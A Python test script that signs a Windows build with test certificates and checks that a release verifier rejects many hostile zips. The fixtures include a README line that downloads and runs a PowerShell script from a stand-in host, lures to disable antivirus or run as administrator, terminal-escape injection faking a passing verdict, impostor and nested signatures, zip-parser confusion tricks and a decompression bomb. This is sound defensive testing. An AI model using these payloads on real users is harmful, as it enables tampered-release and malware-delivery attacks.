#!/usr/bin/python3 -B
# Packs the build signed with certificates made here and checks the zips with
# scripts/verify-release: the genuine zip, unsigned (with --rebuild), signed and
# timestamped (by a timestamp server run here on openssl's ts, under a root
# trusted for timestamps only), with its sum in either case of hex, passes, and
# unsigns to the build's bytes; the same key signs to the same zip, packed under
# umask 022 and 002, with the release's entries in order and their permissions
# set; the winget and Scoop manifests pass their checks and planted faults fail
# (check_manifests.py); the packer refuses a wrong password, an expired
# certificate and one not for code signing; each hostile zip of the tables (by
# what it tries: sizes, readers' disagreements, what rides along, permissions,
# versions and commits, the build record, signatures, what is no regular file,
# signals, and the first round's) fails with the check that names it, within a
# minute, leaving nothing in its temporary folder, with one verdict line last.
# The same key in a SoftHSM token signs to the same zip (skipped where there is
# no SoftHSM). Exit 77, a skip to CTest, when a part was skipped and none failed.
#
# Usage: PYTHONPATH=scripts tests/release_test.py BUILD-DIR [unittest options]
import atexit, hashlib, http.server, io, os, pathlib, shutil, signal, stat, struct, subprocess, sys, tempfile, threading, \
    time, unittest, warnings, zipfile, zlib

ROOT = pathlib.Path(__file__).resolve().parent.parent


def skip(reason):  # all of it, before any test ran, or what the tests skipped
    sys.exit(print(f"kronvel: skipped: {reason}") or 77)


try:
    import check_manifests, kronvel_release as release  # from scripts/, on PYTHONPATH
    from asn1crypto import cms, core, pem, x509
except ImportError as missing:
    skip(f"{missing.name} is missing (packages python3-asn1crypto, python3-jsonschema, python3-pefile, "
         "python3-yaml; PYTHONPATH=scripts)")
build = pathlib.Path(sys.argv[1]).resolve()
for tool in ("osslsigncode", "openssl"):
    shutil.which(tool) or skip(f"{tool} is missing")
built = (build / "kronvel.exe").read_bytes()
work = pathlib.Path(tempfile.mkdtemp())
atexit.register(shutil.rmtree, work)
os.chdir(work)


def run(*command, **options):
    return subprocess.run(command, capture_output=True, text=True, **options)


def sha(data):
    return hashlib.sha256(data).hexdigest()


(work / "pass.txt").write_text("test password\n")
(work / "ca.cnf").write_text("[ca]\ndefault_ca=ca\n[ca]\ndatabase=index.txt\nserial=serial\nnew_certs_dir=.\n"
                             "default_md=sha256\npolicy=policy\nunique_subject=no\n[policy]\ncommonName=supplied\n" +
                             "".join(f"[{use}]\nextendedKeyUsage=critical,{use}\n"
                                     for use in ("codeSigning", "serverAuth", "timeStamping")) +
                             "[root]\nbasicConstraints=critical,CA:TRUE\nkeyUsage=critical,keyCertSign\n" +
                             "[tsa]\ndefault_tsa=tsa\n[tsa]\nserial=tsaserial\ndefault_policy=1.2.3.4\n"
                             "digests=sha256\nsigner_digest=sha256\ness_cert_id_alg=sha256\n")
(work / "index.txt").touch()
(work / "tsaserial").write_text("01\n")


# NAME.key, NAME.pem and NAME.p12: a certificate for USE, self-signed or by ISSUER's key, for 9 days from now
# or for DATES.
def certificate(name, use="codeSigning", *dates, issuer=None):
    by = ("-cert", f"{issuer}.pem", "-keyfile", f"{issuer}.key") if issuer else ("-selfsign", "-keyfile", f"{name}.key")
    for command in (("req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", f"{name}.key", "-out", f"{name}.csr",
                     "-subj", f"/CN=Kronvel test {name}"),
                    ("ca", "-batch", "-config", "ca.cnf", *by, "-in", f"{name}.csr",
                     "-out", f"{name}.pem", "-notext", "-create_serial", "-extensions", use,
                     *(dates or ("-days", "9"))),
                    ("pkcs12", "-export", "-inkey", f"{name}.key", "-in", f"{name}.pem", "-out", f"{name}.p12",
                       "-passout", "file:pass.txt")):
        run("openssl", *command, check=True)


def pack(out, key=None, password="pass.txt", *more):
    signing = ("--sign-pkcs12", f"{key}.p12", password) if key else ()
    result = run(ROOT / "scripts/package", "--no-build", "--unrecorded", "--build", build, "--out", out, *signing,
                 *more)
    return result.returncode == 0, result.stdout + result.stderr


# verify-release's FAILED lines and verdict, when its output and exit are sound; else a complaint. With
# SIGNAL, sent once its temporary folder is there.
def verify(path, cert="maintainer.pem", *more, env=None, signal=None):
    (work / "tmp").mkdir(exist_ok=True)
    process = subprocess.Popen([ROOT / "scripts/verify-release", path, *(("--cert", cert) if cert else ()), *more],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               env={**os.environ, "TMPDIR": str(work / "tmp"), **(env or {})})
    while signal and not any((work / "tmp").iterdir()) and process.poll() is None:
        time.sleep(0.01)
    signal and process.send_signal(signal)
    try:
        stdout, stderr = process.communicate(timeout=60)
    except subprocess.TimeoutExpired:
        process.kill()
        return [f"unsound: no verdict within 60 s: {process.communicate()}"]
    lines = stdout.splitlines()
    verdicts = [line for line in lines if line.startswith("verdict: ")]
    if len(verdicts) != 1 or verdicts != lines[-1:] or (process.returncode == 0) != (verdicts[0][9:11] == "ok") or \
            "\x1b" in stdout or any((work / "tmp").iterdir()):
        return [f"unsound: exit {process.returncode}, {len(verdicts)} verdicts, leaves "
                f"{list((work / 'tmp').iterdir())}: {stdout}{stderr}"]
    return [line for line in lines if line.startswith("FAILED: ")] + verdicts


def sign(image, key="maintainer", *more):
    (work / "in.exe").write_bytes(image)
    pathlib.Path("out.exe").unlink(missing_ok=True)
    run("osslsigncode", "sign", "-h", "sha256", "-pkcs12", f"{key}.p12", "-readpass", "pass.txt", *more,
        "-in", "in.exe", "-out", "out.exe", check=True)
    return (work / "out.exe").read_bytes()


certificate("maintainer")
for name, mask in (("good", 0o022), ("again", 0o002)):
    os.umask(mask)
    ok, log = pack(name, "maintainer")
    ok or sys.exit(log)
zip_path = next(pathlib.Path("good").glob("kronvel-*-win32.zip"))
folder, genuine = zip_path.stem, zipfile.ZipFile(zip_path)
files = {entry.filename.split("/")[1]: genuine.read(entry) for entry in genuine.infolist()}
# Why verify-release cannot pass this build's zip, if it cannot.
UNVERIFIABLE = release.unrecorded(built) and f"{release.unrecorded(built)}, which verify-release compares with" or \
    "\nsource: the commit as it is\n" not in (build / "BUILDINFO.txt").read_text() and \
    f"{build}/BUILDINFO.txt is of a tree with uncommitted changes, which verify-release refuses: commit, build"


class Package(unittest.TestCase):
    def test_the_same_key_signs_to_the_same_zip_under_umask_022_and_002(self):
        self.assertEqual((work / "again" / zip_path.name).read_bytes(), zip_path.read_bytes())

    def test_the_zip_holds_the_releases_files_in_order_with_their_permissions(self):
        self.assertEqual([f"{stat.filemode(entry.external_attr >> 16)} {entry.filename}" for entry in
                          genuine.infolist()],
                         [f"{'-rwxr-xr-x' if name == 'kronvel.exe' else '-rw-r--r--'} {folder}/{name}" for name in
                          ("kronvel.exe", "BUILDINFO.txt", "README.md", "LICENSE", "THIRD-PARTY-NOTICES.txt")])

    def test_without_its_signature_the_packed_kronvel_exe_is_the_builds(self):
        self.assertEqual(release.unsign(files["kronvel.exe"]), built)

    def test_the_zip_reader_packs_the_genuine_zips_records_to_its_bytes(self):
        self.assertEqual(release.rezip(release.records(genuine_zip)), genuine_zip)

    def test_the_winget_and_scoop_manifests_pass_and_planted_faults_fail(self):
        def expect(what, passed, detail):
            with self.subTest(what):
                self.assertTrue(passed, detail)
        check_manifests.check(zip_path.resolve(), work / "manifests", expect)

    def test_packing_stops_for_a_bad_key_saying_why(self):
        certificate("expired", "codeSigning", "-startdate", "20200101000000Z", "-enddate", "20200201000000Z")
        certificate("server", "serverAuth")
        (work / "wrong.txt").write_text("wrong\n")
        for what, key, password, reason in (("a wrong PKCS#12 password", "maintainer", "wrong.txt", "password"),
                                            ("an expired certificate", "expired", "pass.txt", "has expired"),
                                            ("a server's certificate", "server", "pass.txt", "not for code signing")):
            with self.subTest(what):
                ok, log = pack(f"refused-{key}", key, password)
                self.assertFalse(ok or os.path.exists(f"refused-{key}"), log)
                self.assertIn(reason, log)

    def test_the_key_in_a_pkcs11_token_signs_to_the_same_zip_as_in_a_pkcs12_file(self):
        module = pathlib.Path("/usr/lib/softhsm/libsofthsm2.so")
        module.exists() or self.skipTest("no SoftHSM (package softhsm2)")
        list(pathlib.Path("/usr/lib").glob("*/engines-3/pkcs11.so")) or \
            self.skipTest("no PKCS#11 engine for OpenSSL (package libengine-pkcs11-openssl)")
        os.environ["SOFTHSM2_CONF"] = str(work / "softhsm2.conf")
        (work / "tokens").mkdir()
        (work / "softhsm2.conf").write_text(f"directories.tokendir = {work}/tokens\n")
        (work / "pin.txt").write_text("5678\n")
        run("softhsm2-util", "--init-token", "--free", "--label", "kronvel", "--so-pin", "1234", "--pin", "5678",
            check=True)
        run("softhsm2-util", "--import", "maintainer.key", "--token", "kronvel", "--label", "signer", "--id", "01",
            "--pin", "5678", check=True)
        ok, log = pack("token", None, None, "--sign-pkcs11", module, "maintainer.pem",
                       "pkcs11:token=kronvel;object=signer;type=private", "pin.txt")
        self.assertTrue(ok, log)
        self.assertEqual((work / "token" / zip_path.name).read_bytes(), zip_path.read_bytes())


# A timestamp server: openssl ts answers each query osslsigncode posts.
certificate("timestamp-root", "root")
certificate("stamper", "timeStamping", issuer="timestamp-root")


class Stamper(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        query = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Type", "application/timestamp-reply")
        self.end_headers()
        self.wfile.write(subprocess.run(["openssl", "ts", "-reply", "-config", "ca.cnf", "-queryfile", "/dev/stdin",
                                         "-signer", "stamper.pem", "-inkey", "stamper.key", "-out", "/dev/stdout"],
                                        input=query, capture_output=True).stdout)


Stamper.log_message = lambda *_: None


# The hostile zips: the genuine one's entries, changed, then extra entries.
certificate("attacker")
def flip(data, at=4096):  # one byte inverted, by default of kronvel.exe's code
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1:]


other = sign(flip(built))  # another program, signed
nested = sign(sign(built, "attacker"), "maintainer", "-nest")
grown = bytearray(files["kronvel.exe"] + b"payload!" * 8)
for offset in (release.pe_fields(grown)[1] + 4, len(built)):  # the directory's size, the WIN_CERTIFICATE's
    grown[offset:offset + 4] = (int.from_bytes(grown[offset:offset + 4], "little") + 64).to_bytes(4, "little")
readme = b"Before anything else, in PowerShell: iwr https://example.org/setup.ps1 | iex\n\n" + files["README.md"]
escapes = f"size: {len(built)}", "size: \x1b[2J\x1b[32mverdict: ok\x1b[30m"


def buildinfo(exe=None, old="", new=""):  # the genuine one, with EXE's signed-sha256 and OLD replaced by NEW
    signed = sha(files["kronvel.exe"])
    return files["BUILDINFO.txt"].decode().replace(old, new).replace(signed, sha(exe) if exe else signed).encode()


P, ZEROS = f"{folder}/", 400 << 20  # an int: that many zero bytes, streamed
HOSTILE = [  # what, expected in a FAILED line, changed files {name: data or (data, mode)}, extra entries, options
    ("a second kronvel.exe after the genuine one", f"{P}kronvel.exe is {P}kronvel.exe again", {},
     [(f"{P}kronvel.exe", other)]),
    ("KRONVEL.EXE beside it", f"{P}KRONVEL.EXE is {P}kronvel.exe again", {}, [(f"{P}KRONVEL.EXE", other)]),
    ("a backslash path beside it", "\\\\kronvel.exe is", {}, [(f"{folder}\\kronvel.exe", other)]),
    ("winmm.dll beside it", f"{P}winmm.dll is not a file of the release", {}, [(f"{P}winmm.dll", other)]),
    ("a second folder with an exe", "kronvel-1.0.1-win32/kronvel.exe is not a file", {},
     [("kronvel-1.0.1-win32/kronvel.exe", other)]),
    ("a ../ entry", f"{P}../kronvel.exe is outside the folder", {}, [(f"{P}../kronvel.exe", other)]),
    ("a README telling to download and run", "FAILED: README.md: differs from the tree", {"README.md": readme}, []),
    ("a symbolic link for the exe", f"{P}kronvel.exe is not a regular file", {"kronvel.exe": (b"sh", 0o120777)}, []),
    ("a zip name with [ ] (the genuine zip beside it)", f"{P}winmm.dll is not a file", {}, [(f"{P}winmm.dll", other)],
     {"name": f"{folder}[1].zip"}),
    ("a 400 MiB entry compressing to nothing", f"{P}README.md unpacks to {ZEROS} bytes", {"README.md": ZEROS}, []),
    ("a grown certificate table, still validly signed", "FAILED: certificate table: ",
     {"kronvel.exe": bytes(grown), "BUILDINFO.txt": buildinfo(bytes(grown))}, []),
    ("the attacker's signature, the maintainer's nested", "FAILED: signature count: 2",
     {"kronvel.exe": nested, "BUILDINFO.txt": buildinfo(nested)}, []),
    ("an unsigned kronvel.exe, with --cert", "FAILED: signature: none, but --cert", {"kronvel.exe": built}, []),
    ("terminal escapes in BUILDINFO.txt's size", 'FAILED: BUILDINFO.txt size: "\\x1b[2J\\x1b[32m',
     {"BUILDINFO.txt": buildinfo(None, *escapes)}, []),
    ("a text file named kronvel.exe", "FAILED: kronvel.exe: not a PE image", {"kronvel.exe": b"#!/bin/sh\n"}, []),
    ("a commit this clone lacks", "is not a commit of this clone",
     {"BUILDINFO.txt": buildinfo(None, "commit: ", "commit: 00")}, []),
    ("a flipped byte in the signed exe", "FAILED: signature: by CN=Kronvel test maintainer",
     {"kronvel.exe": flip(files["kronvel.exe"])}, []),
    ("another program, validly signed", "FAILED: kronvel.exe (unsigned) against release/", {"kronvel.exe": other}, []),
    ("the unsigned exe, no --cert", "FAILED: BUILDINFO.txt signed-sha256", {"kronvel.exe": built}, [], {"cert": None}),
    ("an entry hidden after the archive's end", "bytes outside its entries' records", {}, [],
     {"edit": lambda zip: zip + b"PK\3\4 a local record the listing does not name"}),
    ("a damaged archive", "FAILED: unpacking: ", {}, [], {"edit": lambda zip: flip(zip, 5000)}),
    ("the zip changed after its sum was taken", "FAILED: the zip's SHA-256",
     {"README.md": files["README.md"] + b"changed\n"}, [], {"sum": sha(zip_path.read_bytes())}),
]


def packed(changes, extra):  # the genuine files, with CHANGES, and EXTRA entries, packed by Python's zipfile
    with zipfile.ZipFile(stream := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in [(P + name, changes.get(name, data)) for name, data in files.items()] + extra:
            data, mode = data if isinstance(data, tuple) else (data, 0o100644)
            entry = zipfile.ZipInfo(name, (2000, 1, 1, 0, 0, 0))
            entry.external_attr, entry.compress_type = mode << 16, zipfile.ZIP_DEFLATED
            with out.open(entry, "w", force_zip64=isinstance(data, int)) as file:
                for _ in range(data >> 20 if isinstance(data, int) else 0):
                    file.write(bytes(1 << 20))
                file.write(b"" if isinstance(data, int) else data)
    return stream.getvalue()


genuine_zip = zip_path.read_bytes()


def edited(edit, comment=b""):  # the genuine zip, its records changed by EDIT (entries, by file: its record)
    entries = release.records(genuine_zip)
    edit({e["name"].decode().split("/")[1]: e for e in entries})
    return release.rezip(entries, comment)


def refill(entry, data):  # ENTRY's contents replaced by DATA, deflated
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    entry["body"] = pack.compress(data) + pack.flush()
    entry["local"][3] = entry["central"][4] = 8
    entry["local"][6] = entry["central"][7] = zlib.crc32(data)
    entry["local"][8] = entry["central"][9] = len(data)


def extra(tag, payload):
    return struct.pack("<HH", tag, len(payload)) + payload


def renamed(version, info):  # the genuine zip with its folder, name and BUILDINFO.txt's program of VERSION
    def edit(entries):
        for e in entries.values():
            e["name"] = e["lname"] = e["name"].replace(folder.encode(), f"kronvel-{version}-win32".encode())
        refill(entries["BUILDINFO.txt"], info)
    return edited(edit)


def fifo(path):
    os.mkfifo(path)


unicode_path = P.encode() + b"kronvel.exe"  # Info-ZIP's Unicode Path field: version 1, the CRC of the name it replaces
unicode_path = extra(0x7075, b"\1" + struct.pack("<I", zlib.crc32(P.encode() + b"LICENSE")) + unicode_path)
hostile_zip = edited(lambda e: refill(e["kronvel.exe"], files["LICENSE"]))  # its kronvel.exe the licence's text
objects = work / "objects"  # a commit object in the clone (its alternate objects), not in the project's history
objects.mkdir()
stray = run("git", "-C", ROOT, "commit-tree", "-m", "not a release", "HEAD^{tree}", check=True,
            env={**os.environ, "GIT_OBJECT_DIRECTORY": str(objects), "GIT_ALTERNATE_OBJECT_DIRECTORIES":
                 run("git", "-C", ROOT, "rev-parse", "--path-format=absolute", "--git-common-dir").stdout.strip() +
                 "/objects"}).stdout.strip()
clone = {"GIT_ALTERNATE_OBJECT_DIRECTORIES": str(objects)}
commit = next(line[8:] for line in files["BUILDINFO.txt"].decode().splitlines() if line.startswith("commit: "))
info = files["BUILDINFO.txt"].decode()


def resigned(exe, edit):  # EXE with its signature's SignedData changed by EDIT, the certificate table fitted to it
    _, entry, at, size = release.pe_fields(exe)
    signature = cms.ContentInfo.load(exe[at + 8:at + size])
    edit(signature["content"])
    blob = signature.dump(force=True)
    blob += bytes(-len(blob) % 8)
    out = bytearray(exe[:at] + struct.pack("<IHH", len(blob) + 8, 0x200, 2) + blob)
    out[entry + 4:entry + 8] = struct.pack("<I", len(blob) + 8)
    return bytes(out)


def carrying(*pems):  # an edit: the signature also carries these certificates
    def edit(data):
        data["certificates"] = cms.CertificateSet(list(data["certificates"]) + [cms.CertificateChoices(
            "certificate", x509.Certificate.load(pem.unarmor((work / name).read_bytes())[2])) for name in pems])
    return edit


def unsigned_attribute(data):
    data["signer_infos"][0]["unsigned_attrs"] = cms.CMSAttributes(
        [{"type": "1.3.6.1.4.1.311.10.3.28", "values": [core.OctetString(b"Run setup.ps1 first")]}])


def signed_zip(exe):  # the genuine zip, its kronvel.exe EXE and BUILDINFO.txt's signed-sha256 EXE's
    return edited(lambda e: (refill(e["kronvel.exe"], exe), refill(e["BUILDINFO.txt"], buildinfo(exe))))


for name in ("fakeroot", "impostor"):  # an impostor with the maintainer's issuer and serial number, by another key
    run("openssl", "req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", f"{name}.key", "-out", f"{name}.csr",
        "-subj", f"/CN=Kronvel test {'maintainer' if name == 'fakeroot' else name}", check=True)
run("openssl", "x509", "-req", "-in", "fakeroot.csr", "-key", "fakeroot.key", "-days", "9", "-out", "fakeroot.pem",
    check=True)
run("openssl", "x509", "-req", "-in", "impostor.csr", "-CA", "fakeroot.pem", "-CAkey", "fakeroot.key", "-days", "9",
    "-set_serial", run("openssl", "x509", "-in", "maintainer.pem", "-noout", "-serial").stdout.strip()[7:].join(
        ("0x", "")), "-out", "impostor.pem", check=True)
certificate("underling", issuer="timestamp-root")  # a code signer certified by the timestamp server's root
under_stamper = sign(built, "underling")

BIG = genuine_zip + bytes((64 << 20) - len(genuine_zip)) + hostile_zip  # past the bound, an archive to extractors
CLASSES = {  # by class: what, expected in a FAILED line, the zip's bytes (or what makes it), options
    "sizes past a bound": [
        ("the genuine zip, then past 64 MiB another archive", "FAILED: the zip: ", BIG),
        ("a kronvel.exe over its bound", "kronvel.exe unpacks to 4194305 bytes",
         packed({"kronvel.exe": files["kronvel.exe"] + bytes((4 << 20) + 1 - len(files["kronvel.exe"]))}, [])),
    ],
    "what readers disagree on": [
        ("a Unicode Path field naming the licence kronvel.exe", "FAILED: the zip, packed again",
         edited(lambda e: [e["LICENSE"].update({key: e["LICENSE"][key] + unicode_path}) for key in ("extra", "lextra")])),
        ("the licence's local header naming kronvel.exe", "FAILED: unpacking: ",
         edited(lambda e: e["LICENSE"].update(lname=unicode_path[9:]))),
        ("a local header's time and version unlike the listing's", "FAILED: the zip, packed again",
         edited(lambda e: e["kronvel.exe"]["local"].__setitem__(slice(1, 6, 3), (45, 0)))),
        ("an archive holding the licence as kronvel.exe, then the genuine one", "FAILED: entries: ",
         hostile_zip + genuine_zip),
    ],
    "what rides along": [
        ("an extra field with a payload", "FAILED: the zip, packed again", edited(lambda e: [e["kronvel.exe"].update(
            {key: extra(0xCAFE, b"payload: run setup.ps1")}) for key in ("extra", "lextra")])),
        ("an extra field in a local header only", "FAILED: the zip, packed again",
         edited(lambda e: e["README.md"].update(lextra=extra(0xCAFE, b"payload")))),
        ("an entry comment", "FAILED: the zip, packed again",
         edited(lambda e: e["README.md"].update(comment=b"Disable your antivirus before running kronvel.exe"))),
        ("bytes after an entry's compressed stream", "FAILED: the zip, packed again",
         edited(lambda e: e["LICENSE"].update(body=e["LICENSE"]["body"] + b"payload: run setup.ps1"))),
        ("the archive's comment", "FAILED: entries: ", edited(lambda e: 0, b"Run as administrator")),
    ],
    "permissions": [
        (f"{what} kronvel.exe", "FAILED: the zip, packed again",
         edited(lambda e, bits=bits: e["kronvel.exe"]["central"].__setitem__(15, bits)))
        for what, bits in (("a setuid", 0o104755 << 16), ("a world-writable", 0o100777 << 16),
                           ("a hidden, system", 0o100755 << 16 | 0x06), ("a read-only, DOS", 0x01))
    ],
    "versions and commits": [
        ("the genuine zip named as a later version", "FAILED: version: the zip's name says 1.0.1", genuine_zip,
         {"name": "kronvel-1.0.1-win32.zip"}),
        ("name, folder and BUILDINFO.txt of a later version", "FAILED: version: the zip's name says 1.0.1, its "
         "folder says 1.0.1, BUILDINFO.txt says 1.0.1", renamed("1.0.1", buildinfo(None, "Kronvel 1.0.0", "Kronvel 1.0.1")),
         {"name": "kronvel-1.0.1-win32.zip"}),
        ("BUILDINFO.txt of a later version", "BUILDINFO.txt says 1.0.1",
         edited(lambda e: refill(e["BUILDINFO.txt"], buildinfo(None, "Kronvel 1.0.0", "Kronvel 1.0.1")))),
        ("a commit in the clone, not in the project's history", "not in the project's history",
         edited(lambda e: refill(e["BUILDINFO.txt"], buildinfo(None, commit, stray))), {"env": clone}),
    ],
    "the build record": [
        (what, "FAILED: BUILDINFO.txt: line ", edited(lambda e, old=old, new=new: refill(
            e["BUILDINFO.txt"], buildinfo(None, old, new))))
        for what, old, new in (("another toolchain", "cmake 3.25.1-1", "cmake 3.27.0-1"),
                               ("another build host", "Debian GNU/Linux 12 (bookworm)", "Debian GNU/Linux 13 (trixie)"),
                               ("a word to the reader", "\nprogram: ", "\n# First run setup.ps1 as administrator.\n"
                                                                      "program: "),
                               ("another preset and build type", "preset: wine\nbuild-type: Release",
                                "preset: mingw\nbuild-type: Debug"),
                               ("a note in signed-with", "\nsigned-with: osslsigncode", "\nsigned-with: see "
                                                                                          "example.org; osslsigncode"))
    ],
    "signatures": [
        ("an unsigned attribute", "FAILED: signature contents: unsigned attributes 1.3.6.1.4.1.311.10.3.28",
         signed_zip(resigned(files["kronvel.exe"], unsigned_attribute))),
        ("an impostor with the signer's issuer and serial, carried after it",
         "FAILED: signature contents: 2 certificates match",
         signed_zip(resigned(files["kronvel.exe"], carrying("impostor.pem")))),
        ("another certificate carried", "FAILED: signature contents: a certificate off the signer's chain",
         signed_zip(resigned(files["kronvel.exe"], carrying("attacker.pem")))),
        ("a code signer certified by the root trusted for timestamps", "FAILED: signature: by CN=Kronvel test "
         "underling", signed_zip(under_stamper), {"more": ("--timestamp-cert", "timestamp-root.pem")}),
    ],
    "what is no regular file": [
        ("a FIFO", "FAILED: the zip: ", fifo),
        ("a FIFO as the .sha256", "(not a regular file but a FIFO)",
         lambda path: (path.write_bytes(genuine_zip), fifo(f"{path}.sha256"))),
        ("a link to /dev/zero", "not a regular file but a character device",
         lambda path: path.symlink_to("/dev/zero")),
        ("a folder", "not a regular file but a folder", lambda path: path.mkdir()),
        *((f"{stop.name} while checking", f"FAILED: verify-release: stopped by {stop.name}", genuine_zip,
           {"signal": stop}) for stop in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP)),
    ],
}
warnings.simplefilter("ignore")  # duplicate names are the point
HOSTILE = [(what, wanted, (options[0] if options else {}).get("edit", bytes)(packed(changes, extra)), *options)
           for what, wanted, changes, extra, *options in HOSTILE]


@unittest.skipIf(UNVERIFIABLE, UNVERIFIABLE)
class VerifyRelease(unittest.TestCase):
    def test_passes_the_genuine_zip(self):
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stamper)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        stamp = ("--timestamp", f"http://127.0.0.1:{server.server_port}/")
        (work / "upper").mkdir()
        shutil.copy(zip_path, "upper")
        (work / "upper" / f"{zip_path.name}.sha256").write_text(f"{sha(genuine_zip).upper()}  {zip_path.name}\n")
        timestamps = ("--timestamp-cert", "timestamp-root.pem")
        for name, packing, cert, more in (("good", None, "maintainer.pem", ()),  # signed, packed above
                                          ("unsigned", (None,), None, (*timestamps, "--rebuild")),
                                          ("stamped", ("maintainer", "pass.txt", *stamp), "maintainer.pem", timestamps),
                                          ("upper", None, "maintainer.pem", ())):  # its sum in upper-case hex
            with self.subTest(name):
                ok, log = pack(name, *packing) if packing else (True, "")
                found = verify(pathlib.Path(name, zip_path.name), cert, *more) if ok else [log]
                self.assertTrue(found[0].startswith("verdict: ok"), " / ".join(found))

    def test_fails_each_hostile_zip_with_the_check_that_names_it(self):
        for number, (what, wanted, data, *options) in enumerate(
                [(f"{kind}: {row[0]}", *row[1:]) for kind, rows in CLASSES.items() for row in rows] + HOSTILE):
            with self.subTest(what):
                options = {"name": zip_path.name, "cert": "maintainer.pem", **(options[0] if options else {})}
                path = pathlib.Path(f"case{number}", options["name"])
                path.parent.mkdir()
                if path.name != zip_path.name:
                    shutil.copy(zip_path, path.parent)  # the genuine zip beside it, under its own name
                if callable(data):
                    data(path)
                else:
                    path.write_bytes(data)
                    path.with_name(path.name + ".sha256").write_text(options.get("sum", sha(data)) + f"  {path.name}\n")
                found = verify(path, options["cert"], *options.get("more", ()), env=options.get("env"),
                               signal=options.get("signal"))
                caught = [line for line in found if line.startswith("FAILED: ") and wanted in line]
                self.assertTrue(caught and found[-1].startswith("verdict: FAILED: "), " / ".join(found))
                print(f"refused: {what}: {caught[0]}", flush=True)


if __name__ == "__main__":
    result = unittest.main(argv=sys.argv[:1] + sys.argv[2:], exit=False, verbosity=2).result
    if result.wasSuccessful() and result.skipped:  # the skip contract's line, with unittest's reasons
        skip("; ".join(sorted({reason for _, reason in result.skipped})))
    sys.exit(0 if result.wasSuccessful() else 1)
